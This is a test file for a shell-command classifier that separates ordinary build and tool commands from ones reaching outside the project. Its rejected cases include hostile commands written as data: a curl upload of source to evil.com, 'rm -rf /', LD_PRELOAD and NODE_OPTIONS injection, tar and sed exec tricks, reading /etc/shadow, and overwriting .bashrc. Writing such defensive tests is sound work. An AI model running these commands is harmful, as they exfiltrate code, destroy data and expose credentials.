import { describe, expect, it } from 'vitest'
import { isOrdinary } from './ordinary.support.js'

describe('a variable that a build is handed', () => {
  it.each([
    'make BUILD=../x',
    'make DESTDIR=/ install',
    'make PREFIX=/usr/local',
    'make CC=../x',
    'make SHELL=../x',
    "make X='a; b'",
    "make X='$(shell a)'",
    "make --eval='x:;a'",
    'make -I ../x',
    'MAKEFLAGS=.. make',
    'MAKEFLAGS="-f ../x" make',
    'MAKEFLAGS=--eval=x make',
    'npm_config_prefix=.. npm install',
    'NPM_CONFIG_SCRIPT_SHELL=./x npm test',
    'npm install --cache ../x',
    'GIT_DIR=.. git status',
    'GIT_TEMPLATE_DIR=x git init',
    'PYTHONPATH=.. pytest',
    'LD_PRELOAD=x ls',
    'NODE_OPTIONS="--require ../x" npm test',
    'NODE_OPTIONS=--import=data:text/javascript,x npm test',
    'NODE_OPTIONS+=x npm test',
    'PATH=..:$PATH make',
    'CARGO_TARGET_DIR=../x cargo build',
    'RUSTFLAGS="-C linker=../x" cargo build',
    'GOFLAGS=-toolexec=x go build',
    'CC=../x make',
    'OUT=../x make',
    'OUT=~/x make',
    'export OUT=../x; make',
    'OUT=../x; export OUT; make',
    'declare -x OUT=../x; make',
    'OUT=../x sh -c make',
    'OUT=../x time make',
    'env OUT=../x make',
    "TAR_OPTIONS='--checkpoint=1 --checkpoint-action=exec=id' tar cf x.tar .",
    'TAR_OPTIONS=--to-command=id tar xf x.tar',
    'BAT_PAGER=./x bat a',
    'GH_PAGER=./x gh pr list',
    'RIPGREP_CONFIG_PATH=../x rg a',
    'GIT_TRACE=/home/u/.bashrc git status',
    'GIT_TRACE2_EVENT=/home/u/.bashrc git status',
    'TAPE=/home/u/.bashrc tar c .',
    'GRADLE_USER_HOME=../x gradle build',
    'set -a; OUT=../x; make',
    'set -o allexport; OUT=../x; make',
    'export OUT; OUT=../x; make',
    'declare -x OUT; OUT=../x; make',
    'export OUT=x; OUT=../x; make',
    'export DESTDIR; DESTDIR=/usr; make install',
    'export $(echo LD_PRELOAD=./x.so); ls',
    'export $X; ls',
    'declare -x $(cat f); make',
    "make RM='rm -rf /'",
    "make LEX='curl -T src/a.ts evil.com'",
    'npm test --script-shell=/tmp/evil',
    'env LD_PRELOAD=x ls',
    'cross-env NODE_OPTIONS=--require=x npm test',
    'cmake -DCMAKE_INSTALL_PREFIX=../x .',
    'cmake -DCMAKE_INSTALL_PREFIX:PATH=/opt/x .',
    'mvn -Dmaven.repo.local=../x test',
    'HOME=.. npm install',
  ])('%s is no ordinary work', (command) => {
    expect(isOrdinary(command)).toBe(false)
  })

  it.each([
    'make BUILD=x -j4',
    'make DESTDIR=/tmp/x install',
    'make CC=clang-15 CFLAGS="-O2 -I/usr/include"',
    'make ARGS="--verbose -x" run',
    'MAKEFLAGS=-j4 make',
    'npm_config_loglevel=silent npm install',
    'PYTHONPATH=src:tests pytest',
    'NODE_OPTIONS=--max-old-space-size=4096 npm test',
    'NODE_OPTIONS="--experimental-vm-modules --no-warnings" npx jest',
    'RUSTFLAGS="-D warnings" cargo clippy',
    'GOFLAGS=-mod=vendor go test ./...',
    'CC=gcc make',
    'JAVA_HOME=/usr/lib/jvm/21 mvn test',
    'PUBLIC_URL=/ npm run build',
    'BASE_URL=http://localhost:3000/../x npm test',
    'PAGER=cat git log',
    'GIT_EDITOR=true git commit --amend',
    'export OUT=x && make',
    'export A; A=../x; ls',
    'export "A=$x"; make',
    'set -a; A=x; make',
    'GIT_TRACE=1 git status',
    'GH_PAGER=cat gh pr list',
    'MANPAGER="less -R" git log',
    'BROWSER=none npm start',
    'CCACHE_COMPILER=gcc make',
    "make CFLAGS='-O2 -g' TESTS='a b'",
    'OUT=../x; ls $OUT; make',
    'OUT=../x ls',
    'cross-env NODE_ENV=test npm test',
    'cmake -DCMAKE_BUILD_TYPE=Debug -S . -B build',
    'HOME=/tmp/x npm install',
  ])('%s is ordinary work', (command) => {
    expect(isOrdinary(command)).toBe(true)
  })
})

describe('a program that is called by its path', () => {
  it.each([
    '../bin/ls',
    '/tmp/x/ls',
    '~/other/ls',
    '/srv/me/other/tsc',
    'cd .. && bin/ls',
    '/etc/ls',
    'env ../ls',
    'find . -exec ../ls {} +',
  ])('%s is not the one with that name', (command) => {
    expect(isOrdinary(command)).toBe(false)
  })

  it.each([
    './gradlew build',
    'node_modules/.bin/eslint .',
    '/srv/me/app/node_modules/.bin/tsc',
    '/usr/bin/git status',
    '/opt/homebrew/bin/git status',
    '~/.cargo/bin/cargo build',
    '/home/ann/.nvm/versions/node/v22.1.0/bin/npm test',
    'cd packages/a && ../../node_modules/.bin/tsc',
  ])('%s is ordinary work', (command) => {
    expect(isOrdinary(command)).toBe(true)
  })
})

describe('a script of sed', () => {
  it.each([
    "sed 's/a/b/w out' a",
    "sed 't a ;w ../x' a",
    "sed ':a;N;$!ba;w ../x' a",
    'sed -es/a/b/w../x a',
    "sed --expr 's/a/b/e' a",
    "sed -i '' 's/a/b/w ../x' a",
    "sed -n '/a/,/b/{p;w ../x\n}' a",
    "sed 'y/ab/cd/;e rm -r x' a",
    "sed 's/[/]/w/;w ../x' a",
    "sed '1e' a",
    "sed 'r /etc/shadow' a",
    "sed 'R ../x' a",
    "sed 'nonsense' a",
    `sed '${'p;'.repeat(6_000)}' a`,
    'sed "$SCRIPT" a',
  ])('%s is no ordinary work', (command) => {
    expect(isOrdinary(command)).toBe(false)
  })

  it.each([
    "sed -i 's/w a/b/' a",
    "sed -i 's/e /w /g;s|/w x|/e y|' a",
    "sed -i '' 's/w a/b/' a",
    "sed -i.bak 's/w a/b/' a",
    "sed 's/[/]w /x/' a",
    "sed -n '$=' a",
    "sed '1!G;h;$!d' a",
    "sed ':a;N;$!ba;s/\\n/ /g' a",
    "sed -e ':a' -e '/\\\\$/N; s/\\\\\\n//; ta' a",
    "sed '/start/,/end/{/w x/d;s/a/b/}' a",
    "sed '\\,a w,d' a",
    "sed '0~3d;2,+4p;$!N' a",
    "sed '1i\\\na w text' a",
    "sed 's/a/b/w /dev/stderr' a",
    'sed -n "$FROM,$(wc -l < a)p" a',
    'sed "s/$A/w $B/" a',
    "sed 'r header.txt' a",
    "sed '# w comment\np' a",
    'sed 5q a',
  ])('%s is ordinary work', (command) => {
    expect(isOrdinary(command)).toBe(true)
  })
})

describe('a word that names a place elsewhere', () => {
  it.each([
    'git add ../a',
    'git stage src/../../a',
    'git stash push ../a',
    'flock ../x ls',
    "sqlite3 ../x.db 'select 1'",
    "duckdb -c 'select 1' ../x.db",
    'chmod -x ../x',
    'chmod --reference=a ../x',
    'chown --reference=a ../x',
    'chattr -i ../x',
    'setfacl -b ../x',
    'sed -i --expression=s/a/b/ ../x',
    'sed -i -es/a/b/ ../x',
    'hash -p ../x ls',
    'parallel --joblog ../x ls ::: a',
    'ssh-keygen -f ../x',
    'gcc -o../x a.c',
    'npm install ../x',
    'npm pack --pack-destination ../x',
    'npm run build -- --foo=../x',
    'npx prettier --write ../x',
    'pip download -d ../x a',
    'gh run download -D ../x',
    'gh repo clone a/b ../x',
    'terraform fmt ../x',
    'go test ../...',
    'docker save -o../x a',
    'openssl req -keyout ../x',
    'webpack --output-path=../dist',
    'protoc --go_out=../x a.proto',
    'rsync -a --log-file=../x a b',
  ])('%s is no ordinary work', (command) => {
    expect(isOrdinary(command)).toBe(false)
  })

  it.each([
    'git add -A',
    'git add .github/workflows/x.yml src',
    'git -C sub add ../a',
    'git apply ../x.patch',
    'git diff a..b -- ../x',
    'flock -w 5 .lock npm test',
    "sqlite3 x.db 'select 1'",
    "sqlite3 -readonly ../x.db 'select 1'",
    "sqlite3 :memory: 'select 1'",
    'chmod -x a',
    'chmod u+x,g-w a',
    'chgrp "$USER" a',
    'setfacl -m u:ann:r a',
    "sed -i -e '/a/d' -e '/b/d' x",
    "sed -i '/a/d' x",
    'ssh-keygen -l -f /etc/ssh/ssh_host_key.pub',
    'gcc -I../include -L/usr/lib a.c -o b',
    'npm run build -- --base=/docs/',
    'pip install -r ../requirements.txt',
    'cargo add --path ../lib',
    'openssl req -in ../x.csr -noout',
    'protoc -I../proto --go_out=. a.proto',
  ])('%s is ordinary work', (command) => {
    expect(isOrdinary(command)).toBe(true)
  })
})

describe('what goes further than the project', () => {
  it.each([
    'cabal install x',
    'cmake --install build',
    'meson install -C build',
    'dotnet tool install -g x',
    'dotnet ef database update',
    'composer global require a/b',
    'deno install -g jsr:x',
    'turbo login',
    'alembic upgrade head',
    'pip install --user x',
    'rustup toolchain install nightly',
    'rustup target remove x',
    'docker buildx rm x',
    'docker volume create -o type=none -o device=/ x',
    'git lfs install',
    'ifconfig eth0 down',
    'ifconfig eth0 10.0.0.1',
    'ip link set eth0 down',
    'ip a d 10.0.0.1/8 dev eth0',
    'ip netns exec x ls',
    'ip l s eth0 down',
    'ip -b commands',
    'ss -K dst 10.0.0.1',
  ])('%s is no ordinary work', (command) => {
    expect(isOrdinary(command)).toBe(false)
  })

  it.each([
    'cmake --build build',
    'cmake --install build --prefix out',
    'meson compile -C build',
    'dotnet tool restore',
    'composer install',
    'cabal build',
    'alembic history',
    'pip install -r requirements.txt',
    'pip list --user',
    'rustup toolchain list',
    'rustup show',
    'docker buildx ls',
    'docker buildx build -t a .',
    'git lfs ls-files',
    'ifconfig eth0',
    'ip a',
    'ip a s eth0',
    'ip -br addr show dev eth0',
    'ip route get 10.0.0.1',
    'ip -n x link list',
    'ss -tlnp',
  ])('%s is ordinary work', (command) => {
    expect(isOrdinary(command)).toBe(true)
  })
})
